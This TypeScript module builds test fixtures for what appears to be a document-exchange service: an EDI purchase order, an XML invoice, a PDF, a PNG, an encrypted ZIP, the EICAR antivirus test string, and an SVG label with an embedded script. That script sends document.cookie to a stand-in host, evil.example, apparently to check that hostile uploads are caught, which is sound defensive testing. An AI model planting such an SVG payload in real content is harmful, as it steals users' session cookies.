import { crc32, deflateSync } from 'node:zlib';
import { configure, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';

/** A purchase order as a partner's ERP writes it. */
export function purchaseOrder(number: string, quantity: number): Buffer {
  const segments = [
    'ISA*00*          *00*          *ZZ*ACME           *ZZ*HUB            *261121*1200*U*00401*000000001*0*P*>',
    'GS*PO*ACME*HUB*20261121*1200*1*X*004010',
    'ST*850*0001',
    `BEG*00*SA*${number}**20261121`,
    'N1*ST*Warehouse North*92*0042',
    `PO1*1*${String(quantity)}*EA*9.25**VP*WIDGET-7`,
    'CTT*1',
    'SE*6*0001',
    'GE*1*1',
    'IEA*1*000000001',
  ];
  return Buffer.from(segments.map((segment) => `${segment}~\n`).join(''));
}

/** The industry's harmless test file. Put together here, since the whole string on a disk wakes every virus scanner. */
export function eicar(): Buffer {
  const parts = ['X5O!P%@AP[4', 'PZX54(P^)7CC)7}$', 'EICAR', 'STANDARD', 'ANTIVIRUS', 'TEST', 'FILE!$H+H*'];
  const [head = '', middle = '', ...words] = parts;
  return Buffer.from(`${head}\\${middle}${words.join('-')}`, 'latin1');
}

export function invoiceXml(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n<Invoice><Id>INV-2026-114</Id><Currency>EUR</Currency><Total>1849.50</Total></Invoice>\n',
  );
}

/** One page with one line of text; offsets are computed, so that readers open it without repair. */
export function pdf(text: string): Buffer {
  const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${String(stream.length)} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const at = body.length;
    body += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = String(objects.length + 1);
  return Buffer.from(
    `${body}xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(body.length)}\n%%EOF\n`,
    'latin1',
  );
}

/** A square of one colour. */
export function png(side: number, [red, green, blue]: readonly [number, number, number]): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length, 0);
    frame.writeUInt32BE(crc32(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(side * 3, Buffer.from([red, green, blue]))]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: side }, () => row)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A label that would run a script in whoever's browser opens it. */
export function scriptedSvg(): Buffer {
  return Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="steal()">' +
      '<rect width="120" height="60" fill="#246"/><script>fetch("//evil.example/?c=" + document.cookie)</script>' +
      '<text x="10" y="35" fill="#fff">PALLET 7</text></svg>\n',
  );
}

export async function encryptedZip(password: string): Promise<Buffer> {
  configure({ useWebWorkers: false });
  const zip = new ZipWriter(new Uint8ArrayWriter(), { password, encryptionStrength: 3 });
  await zip.add('salaries.csv', new Uint8ArrayReader(Buffer.from('name,salary\nA. Person,1\n')));
  return Buffer.from(await zip.close());
}
